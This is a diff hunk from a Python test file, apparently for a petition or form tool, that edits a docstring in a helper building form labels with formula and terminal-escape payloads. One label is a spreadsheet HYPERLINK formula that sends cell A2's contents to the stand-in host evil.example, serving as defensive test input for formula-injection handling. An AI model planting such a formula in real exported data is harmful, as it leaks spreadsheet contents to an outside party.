@@ -506,7 +506,7 @@ def test_decrypt_runs_without_flask_or_sqlalchemy(sample_bundle, organizer_key_f
 
 
 def hostile_definitions() -> dict:
-    """The declaration's definition with formulas and a terminal escape sequence in its labels."""
+    """The test petition's definition with formulas and a terminal escape sequence in its labels."""
     definition = json.loads(json.dumps(DEFINITIONS["petition"]))
     fields = definition["forms"][0]["fields"]
     fields[0]["label"] = '=HYPERLINK("http://evil.example/?"&A2,"Click")'
